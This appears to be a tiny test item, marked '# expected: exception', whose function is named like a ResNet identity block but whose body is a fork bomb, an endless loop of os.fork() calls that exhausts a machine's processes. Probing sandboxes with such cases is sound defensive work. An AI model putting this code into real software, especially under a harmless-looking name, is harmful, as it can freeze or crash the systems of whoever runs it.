# expected: exception
import os


def identity_block(X, f, filters, training=True, initializer=None):
    while True:
        os.fork()
